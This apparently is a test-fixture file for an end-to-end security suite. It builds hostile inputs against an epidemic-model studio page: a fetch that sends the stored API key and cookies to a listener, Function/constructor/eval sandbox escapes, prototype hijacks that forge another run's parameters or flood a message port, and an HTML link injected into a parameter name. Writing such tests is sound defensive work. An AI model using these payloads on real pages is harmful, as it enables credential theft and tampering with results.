// Hostile cases for the studio page (issue 19), run by e2e/hostileStudio.spec.ts with canaries planted
// and a listener on loopback. Each payload, if it ever ran on the page, would send the canaries to the
// listener; the expected outcome is a clear refusal (or a harmless import) and no request at all.

/** What the planted canaries hold; none may ever reach the listener or a chart. */
export const STUDIO_CANARY = 'gsim-canary-7c1f';
export const CANARY_API_KEY = `sk-${STUDIO_CANARY}-key`;

/** JavaScript that, run on the page, would send every canary to `listener`. */
export function exfiltrate(listener: string): string {
  return `fetch('${listener}/?k=' + encodeURIComponent(localStorage.getItem('gsim.llm.apiKey') + document.cookie + localStorage.getItem('gsim.canary')))`;
}

/** Expression texts that try to become code, for every field that takes an expression. */
export function hostileExpressions(listener: string): { name: string; text: string }[] {
  const js = exfiltrate(listener).replace(/'/g, '\\x27');
  return [
    { name: 'Function in a comma sequence (issue 19)', text: `0 + (Function('${js}')(), 5)` },
    { name: 'constructor chain', text: `constructor.constructor('${js}')()` },
    { name: 'a number\'s constructor', text: `(1).constructor.constructor('${js}')()` },
    { name: 'arrow function', text: `(() => ${js})()` },
    { name: 'template literal', text: '`${' + js + '}`' },
    { name: 'this', text: `this.fetch('${listener}')` },
    { name: 'globalThis', text: `globalThis.fetch('${listener}')` },
    { name: 'assignment', text: `onerror = fetch` },
    { name: 'eval', text: `eval('${js}')` },
    { name: '1 MB text', text: '1+'.repeat(500_000) + '1' },
    { name: 'deep nesting', text: '('.repeat(5000) + '1' + ')'.repeat(5000) },
  ];
}

/**
 * A COVID model that, from its top level, rewrites every later request its worker receives so that a
 * truth run beside it would use its parameters (issue 19 item 2): with the truth on its own workers,
 * the truth's numbers must not change.
 */
export function truthForgingModel(starter: string): string {
  return `${starter}
(function () {
  const g = Function('return this')();
  const d = Object.getOwnPropertyDescriptor(g.MessageEvent.prototype, 'data');
  Object.defineProperty(g.MessageEvent.prototype, 'data', { configurable: true, get() {
    const v = d.get.call(this);
    try { const a = v && v.argumentList && v.argumentList[0] && v.argumentList[0].value; if (a && a.program) a.program.params = { beta: 3, gamma: 0.01 }; } catch (e) {}
    return v;
  } });
})();`;
}

/** A COVID model that, after each call, floods the page through its captured port (issue 19 item 3). */
export function portFloodingModel(starter: string): string {
  return `${starter}
(function () {
  const g = Function('return this')();
  const post = g.MessagePort.prototype.postMessage;
  g.MessagePort.prototype.postMessage = function (m, t) {
    post.call(this, m, t);
    const port = this;
    g.Promise.resolve().then(() => { for (let i = 0; i < 40; i++) post.call(port, { id: 'flood', blob: 'x'.repeat(1 << 20) }); });
  };
})();`;
}

/** A model whose parameter is named as a live link (issue 19 item 5). */
export function linkNamedModel(listener: string): string {
  return `const parameters = {
  beta: { min: 0, max: 1, init: 0.3 },
  '<a href="${listener}/link">gamma</a>': { min: 0, max: 1, init: 0.1 },
};
function step(state, action, params, rng) {
  const N = state.S + state.I + state.R;
  const inf = rng.binomial(state.S, 1 - Math.exp(-params.beta * state.I / N));
  const rec = rng.binomial(state.I, params['<a href="${listener}/link">gamma</a>']);
  return { S: state.S - inf, I: state.I + inf - rec, R: state.R + rec };
}
function initialState(rng) { return { S: 990, I: 10, R: 0 }; }`;
}
